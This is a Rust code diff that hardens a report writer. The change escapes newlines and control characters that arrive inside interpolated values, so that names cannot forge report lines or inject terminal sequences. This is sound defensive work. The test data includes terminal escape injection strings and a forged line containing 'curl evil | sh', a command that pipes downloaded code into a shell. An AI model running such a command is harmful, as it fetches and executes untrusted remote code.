@@ -63,7 +63,8 @@ impl<T: Display> Display for Escaped<T> {
 }
 
 /// An `io::Write` adapter for text reports: everything written through it has its control
-/// characters escaped, except the line feeds and tabs that lay the report out. Bytes that are
+/// characters escaped, except tabs and the line feeds that end what is written (the report's
+/// own line ends; one inside a value is escaped). Bytes that are
 /// not UTF-8 (8-bit C1 controls among them) are shown as `\xHH`. Each write is taken as
 /// whole text (as `write!` hands it over); the writer's own styling (ANSI colour) goes through
 /// [`ControlEscaper::raw`].
@@ -89,17 +90,22 @@ impl<W: Write> ControlEscaper<W> {
     }
 
     fn write_text(&mut self, text: &str) -> io::Result<()> {
-        let layout = |c: char| c == '\n' || c == '\t';
-        if !text.contains(|c| is_unsafe(c) && !layout(c)) {
+        // Layout: tabs, and the line feeds that end a piece of the writer's format string
+        // (`write!` hands over literal pieces and arguments apart). A line feed with text after
+        // it in the same piece came with a value: escaped, so a name cannot forge report lines.
+        let body = text.trim_end_matches('\n');
+        let layout = |c: char| c == '\t';
+        if !body.contains(|c| is_unsafe(c) && !layout(c)) {
             return self.inner.write_all(text.as_bytes());
         }
         let mut out = String::with_capacity(text.len() + 16);
-        for c in text.chars() {
+        for c in body.chars() {
             match is_unsafe(c) && !layout(c) {
                 true => push_escape(&mut out, c),
                 false => out.push(c),
             }
         }
+        out.push_str(&text[body.len()..]);
         self.inner.write_all(out.as_bytes())
     }
 }
@@ -227,13 +233,16 @@ mod tests {
     fn the_writer_keeps_layout_and_escapes_the_rest() {
         let mut w = ControlEscaper::new(Vec::new());
         let name = "evil\x1b]0;pwned\x07\r";
-        write!(w, "name {name}\n\tnext\n").unwrap();
+        writeln!(w, "name {name}").unwrap();
+        writeln!(w, "\tnext").unwrap();
+        let forged = "x\n   fix      curl evil | sh";
+        writeln!(w, "   {forged}").unwrap();
         w.write_all(b"raw \x9b byte\n").unwrap();
         write!(w.raw(), "\x1b[1m").unwrap();
         let out = String::from_utf8(w.into_inner()).unwrap();
         assert_eq!(
             out,
-            "name evil\\x1b]0;pwned\\x07\\r\n\tnext\nraw \\x9b byte\n\x1b[1m"
+            "name evil\\x1b]0;pwned\\x07\\r\n\tnext\n   x\\n   fix      curl evil | sh\nraw \\x9b byte\n\x1b[1m"
         );
     }
 
